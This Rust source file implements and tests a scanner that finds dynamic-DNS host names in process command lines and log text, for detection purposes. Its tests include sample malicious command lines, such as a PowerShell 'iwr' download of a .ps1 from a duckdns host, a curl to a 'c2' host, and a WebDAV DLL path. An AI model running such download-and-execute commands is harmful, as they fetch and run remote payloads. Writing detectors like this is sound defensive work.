//! Free-text scanning: finds DDNS host names embedded in text such as a
//! process command line or `_raw` (`powershell iwr http://x.duckdns.org/a`).
//!
//! A host in text is a **run** of host bytes (`[A-Za-z0-9._-]`) that holds a
//! dot. The scanner jumps from dot to dot (`memchr`), widens each dot to its
//! run, and judges the run exactly as host mode judges a plain name: the
//! same normalisation ([`HostExtractor`]: one trailing dot dropped, ASCII
//! lower-cased, the name grammar checked) and the same suffix hash
//! ([`ZoneSet::longest_match`]). Judging the whole run enforces the label
//! boundaries on both sides (`foo.duckdns.org.evil.com` and
//! `foo.duckdns.organic` do not match).
//!
//! Nothing is built per process: the zone list is the compiled-in hash
//! table that host mode uses, so text mode starts as fast and as small as
//! host mode (DESIGN.md, "Text mode"). Every byte is passed over at most
//! twice (the dot search, then the widening of its run), and a run longer
//! than a name is never judged, so the scan is linear in the text whatever
//! it holds.

use dynamicdns_zonetable::name::MAX_NAME;
use dynamicdns_zonetable::LastLabels;

use crate::host::HostExtractor;
use crate::zoneset::{ZoneMatch, ZoneSet};

/// A scanner over a zone set; it holds only a scratch buffer.
#[derive(Debug)]
pub struct TextScanner<'z> {
    zones: &'z ZoneSet,
    hosts: HostExtractor,
    /// The zone set's last labels: most runs end in one no zone ends in.
    /// Boxed: half a kilobyte, kept out of the matchers that hold a scanner.
    last_labels: Box<LastLabels>,
    #[cfg(test)]
    work: Work,
}

/// Whether a byte may be part of a host in text: the label bytes in either
/// case, and the dot.
static HOST_BYTE: [bool; 256] = {
    let mut t = [false; 256];
    let mut b = 0;
    while b < 256 {
        let c = b as u8;
        t[b] = c.is_ascii_alphanumeric() || c == b'.' || c == b'-' || c == b'_';
        b += 1;
    }
    t
};

#[inline]
fn is_host_byte(b: u8) -> bool {
    HOST_BYTE[usize::from(b)]
}

impl<'z> TextScanner<'z> {
    /// A scanner over `zones`; it costs nothing that grows with the zones.
    pub fn new(zones: &'z ZoneSet) -> TextScanner<'z> {
        TextScanner {
            zones,
            hosts: HostExtractor::new(),
            last_labels: Box::new(zones.last_labels()),
            #[cfg(test)]
            work: Work::default(),
        }
    }

    /// Calls `found` for every host in `text` that the zone set matches (a
    /// DDNS host or a provider service host), in order of appearance; each
    /// host is reported, whatever matched before it.
    pub fn scan(&mut self, text: &[u8], mut found: impl FnMut(ZoneMatch<'z>)) {
        let zones = self.zones;
        self.for_each_run(text, |hosts, run| {
            if let Some(m) = hosts.host(run).and_then(|h| zones.longest_match(h)) {
                found(m);
            }
        });
    }

    /// Calls `judge` with every run of host bytes in `text` that holds a
    /// dot, is short enough to be a name and ends in a label some name of
    /// the zone set ends in (the host extractor keeps a run's last label,
    /// lower-cased, after one trailing dot), in order of appearance, and
    /// the host extractor to read it with: [`scan`](Self::scan) judges each
    /// run at once; the [`Judge`](crate::verdict::Judge) first asks its
    /// verdict cache (command lines repeat the same hosts).
    pub fn for_each_run(&mut self, text: &[u8], mut judge: impl FnMut(&mut HostExtractor, &[u8])) {
        // Everything before `pos` is done; `text[pos]`, when `pos > 0`, is
        // the byte that ended the previous run, not a host byte.
        let mut pos = 0;
        while let Some(i) = memchr::memchr(b'.', &text[pos..]) {
            let dot = pos + i;
            let mut start = dot;
            while start > pos && is_host_byte(text[start - 1]) {
                start -= 1;
            }
            let mut end = dot + 1;
            while end < text.len() && is_host_byte(text[end]) {
                end += 1;
            }
            let run = &text[start..end];
            #[cfg(test)]
            {
                self.work.searched += dot + 1 - pos;
                self.work.widened += end - start;
            }
            // A run longer than a name (and its trailing dot) is no host;
            // skipping it keeps a hostile run from being read again.
            if run.len() <= MAX_NAME + 1 && self.last_labels.may_hold(last_label(run)) {
                #[cfg(test)]
                {
                    self.work.judged += run.len();
                }
                judge(&mut self.hosts, run);
            }
            // The rest of the run has no other host: its dots widen to the
            // same run.
            pos = end;
        }
    }
}

/// The last label of a run, after one trailing dot. Labels are short: a
/// plain loop beats a call to `memrchr` here.
#[inline]
fn last_label(run: &[u8]) -> &[u8] {
    let name = run.strip_suffix(b".").unwrap_or(run);
    let mut i = name.len();
    while i > 0 && name[i - 1] != b'.' {
        i -= 1;
    }
    &name[i..]
}

/// Bytes the scanner passed over, for the tests that bound its work.
#[cfg(test)]
#[derive(Debug, Default, Clone, Copy)]
struct Work {
    /// By the dot search.
    searched: usize,
    /// By the widening of dots to runs.
    widened: usize,
    /// Handed to host normalisation and the suffix hash.
    judged: usize,
}

#[cfg(test)]
mod tests {
    use super::*;

    fn zones() -> ZoneSet {
        ZoneSet::from_csv(
            &b"zone,provider\nduckdns.org,DuckDNS\nhome.dyndns.org,Dyn\ndyndns.org,Dyn\n"[..],
            "t",
        )
        .unwrap()
    }

    fn scan_in(z: &ZoneSet, text: &str) -> Vec<String> {
        let mut s = TextScanner::new(z);
        let mut out = Vec::new();
        s.scan(text.as_bytes(), |m| out.push(m.zone.to_string()));
        out
    }

    fn scan(text: &str) -> Vec<String> {
        scan_in(&zones(), text)
    }

    #[test]
    fn finds_embedded_hosts_on_label_boundaries() {
        assert_eq!(scan("powershell iwr http://X.DuckDNS.org/a.ps1"), ["duckdns.org"]);
        assert_eq!(scan("a.home.dyndns.org, b.dyndns.org."), ["home.dyndns.org", "dyndns.org"]);
        assert!(scan("foo.duckdns.org.evil.com foo.duckdns.organic duckdns.org").is_empty());
        assert!(scan("foo.duckdns.org.. a..duckdns.org .duckdns.org -x.duckdns.org.5").is_empty());
        assert_eq!(scan("x.duckdns.org.evil.com then y.duckdns.org"), ["duckdns.org"]);
        assert_eq!(scan("\"a.duckdns.org\",'b.duckdns.org';c.duckdns.org."), ["duckdns.org"; 3]);
        assert_eq!(scan("\\\\nas.duckdns.org@SSL\\DavWWWRoot\\x.dll"), ["duckdns.org"]);
        assert!(scan("").is_empty());
        assert!(scan("no dots here").is_empty());
        // A run longer than a name is not a host, even when it ends in one.
        let long = format!("{}.duckdns.org", "a".repeat(250));
        assert!(scan(&long).is_empty());
        let label63 = "a".repeat(63);
        assert_eq!(scan(&format!("x {label63}.duckdns.org y")), ["duckdns.org"]);
        assert!(scan(&format!("x a{label63}.duckdns.org y")).is_empty());
    }

    /// Every host is reported, in text order: a later host of the same zone
    /// and a provider's service host included.
    #[test]
    fn reports_every_host_in_order() {
        let z = ZoneSet::embedded();
        let mut s = TextScanner::new(&z);
        let mut out = Vec::new();
        let text = b"iwr https://www.duckdns.org/update?x; curl c2.duckdns.org; ping a.ddns.net b.duckdns.org";
        s.scan(text, |m| out.push((m.zone, m.is_dyndns())));
        assert_eq!(
            out,
            [
                ("duckdns.org", false),
                ("duckdns.org", true),
                ("ddns.net", true),
                ("duckdns.org", true)
            ]
        );
    }

    /// The shipped list's last-label map passes every zone's and service
    /// host's last label, in any case, and stops the common file
    /// extensions of command lines before the verdict cache.
    #[test]
    fn last_label_map_of_the_shipped_list() {
        let z = ZoneSet::embedded();
        let l = z.last_labels();
        let names = z.iter().map(|m| m.zone.to_string());
        let service = z.service_hosts().unwrap().iter().map(|(h, _)| h.to_string());
        for name in names.chain(service) {
            let label = last_label(name.as_bytes());
            assert!(l.may_hold(label), "{name}");
            assert!(l.may_hold(label.to_ascii_uppercase().as_slice()), "{name}");
        }
        for ext in ["exe", "dll", "ps1", "0", "tmp", "log", "msi", "bat", "vbs", "js", "txt"] {
            assert!(!l.may_hold(ext.as_bytes()), "{ext}");
        }
        assert_eq!(last_label(b"a.DuckDNS.Org."), b"Org");
        assert_eq!(last_label(b"a.b.."), b"");
        assert_eq!(last_label(b".org"), b"org");
    }

    /// Bytes outside host names split runs as before: a URL's scheme, port,
    /// path and query, userinfo, and non-ASCII bytes (which text mode does
    /// not decode).
    #[test]
    fn runs_end_at_non_host_bytes() {
        assert_eq!(
            scan("http://u:p@a.duckdns.org:8080/p?q=b.dyndns.org#f"),
            ["duckdns.org", "dyndns.org"]
        );
        assert_eq!(scan("b\u{fc}cher.duckdns.org"), ["duckdns.org"]);
        assert!(scan("http://foo%2Educkdns%2Eorg/").is_empty());
    }

    fn work(text: &[u8]) -> (Work, usize) {
        let z = ZoneSet::embedded();
        let mut s = TextScanner::new(&z);
        let mut n = 0;
        s.scan(text, |_| n += 1);
        (s.work, n)
    }

    /// The scan's work is linear in the text for any input: the dot search
    /// passes over each byte once, the widening over each byte at most once
    /// more, and a run is judged only when it can be a name. Checked on
    /// hostile inputs by counting bytes, not time.
    #[test]
    fn work_is_linear_on_hostile_text() {
        let mb = 10 << 20;
        let dots_and_labels = b"a.".repeat(mb / 2);
        // Many short hosts (one megabyte: each is judged, slow in a debug build).
        let hosts = b"x.duckdns.org ".repeat(75_000);
        let one_label = vec![b'a'; mb];
        let long_then_dot = [&one_label[..], b".duckdns.org"].concat();
        let dots = vec![b'.'; mb];
        let cases: [(&[u8], usize); 5] = [
            (&dots_and_labels, 0),
            (&hosts, 75_000),
            (&one_label, 0),
            (&long_then_dot, 0),
            (&dots, 0),
        ];
        for (text, want) in cases {
            let (w, n) = work(text);
            assert_eq!(n, want);
            assert!(w.searched <= text.len(), "{w:?} for {} bytes", text.len());
            assert!(w.widened <= text.len(), "{w:?} for {} bytes", text.len());
            assert!(w.judged <= text.len(), "{w:?} for {} bytes", text.len());
        }
        // One run of ten megabytes is widened once and never judged.
        let (w, _) = work(&dots_and_labels);
        assert_eq!((w.widened, w.judged), (mb, 0));
    }

    /// The scanner agrees with host mode run by run: splitting the text at
    /// every non-host byte and judging each run as a host gives the same
    /// matches, in the same order.
    #[test]
    fn agrees_with_host_mode_on_each_run() {
        use proptest::prelude::*;
        let z = zones();
        let piece = prop_oneof![
            Just("duckdns.org"),
            Just("DuckDNS.ORG"),
            Just("home.dyndns.org"),
            Just("dyndns.organic"),
            Just("a"),
            Just("b-"),
            Just("_"),
            Just("9"),
            Just("."),
            Just("."),
            Just(" "),
            Just("/"),
            Just(":"),
            Just("\u{e9}"),
        ];
        proptest!(|(parts in proptest::collection::vec(piece, 0..40))| {
            let text = parts.concat();
            let want: Vec<String> = text
                .split(|c: char| !(c.is_ascii_alphanumeric() || "._-".contains(c)))
                .filter_map(|run| {
                    let mut x = HostExtractor::new();
                    let host = x.host(run.as_bytes())?.to_vec();
                    z.longest_match(&host).map(|m| m.zone.to_string())
                })
                .collect();
            prop_assert_eq!(scan_in(&z, &text), want, "{:?}", text);
        });
    }
}
